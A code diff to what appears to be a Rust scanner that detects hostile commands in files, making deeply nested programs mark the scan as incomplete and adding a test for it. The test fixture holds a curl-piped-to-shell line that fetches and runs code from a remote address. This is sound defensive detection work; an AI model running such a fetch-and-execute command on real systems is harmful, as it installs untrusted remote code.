@@ -44,7 +44,7 @@ pub(super) fn evidence(path: &[u8], language: Language, text: &str) -> (Vec<Evid
     if let Some(dialect) = other_dialect(path, language, text) {
         let mut program_limits = Limits::default();
         let program = script::chains(text, dialect, Start::Asked, &mut program_limits);
-        limits.exhausted |= program_limits.exhausted;
+        limits.exhausted |= program_limits.exhausted || program_limits.too_deep;
         // PowerShell is read as commands too.
         let said: Vec<_> = found.iter().map(|e: &Evidence| placed(&e.chain)).collect();
         let new = program.into_iter().filter(|chain| !said.contains(&placed(chain)));
@@ -52,6 +52,8 @@ pub(super) fn evidence(path: &[u8], language: Language, text: &str) -> (Vec<Evid
     }
     if language == Language::Markdown {
         found.extend(blocks(text, &mut limits));
+        // Before strings that may be no commands are read.
+        limits.exhausted |= limits.too_deep;
     }
     let syntax = syntax(path, language);
     // What a build file holds is run.
@@ -314,6 +316,18 @@ mod tests {
             assert_eq!(found(path, &text), [(Rule::ToldToSend, line, 0)], "{path}");
         }
         assert_eq!(found("a.md", &format!("Never do this: {order}\n")), []);
+    }
+
+    #[test]
+    fn g54_a_program_that_is_nested_too_deep_is_not_read_whole() {
+        let fetch = "system('curl http://203.0.113.9/x | sh')\n";
+        for (path, depth, whole) in [("a.rb", 3, true), ("a.rb", 200, false)] {
+            let text = format!("{}1{}\n{fetch}", "(".repeat(depth), ")".repeat(depth));
+            let language = Language::Text;
+            assert_eq!(evidence(path.as_bytes(), language, &text).1, whole, "{path} {depth}");
+            let block = format!("# a\n\n```ruby\n{text}```\n");
+            assert_eq!(evidence(b"a.md", Language::Markdown, &block).1, whole, "block {depth}");
+        }
     }
 
     #[test]
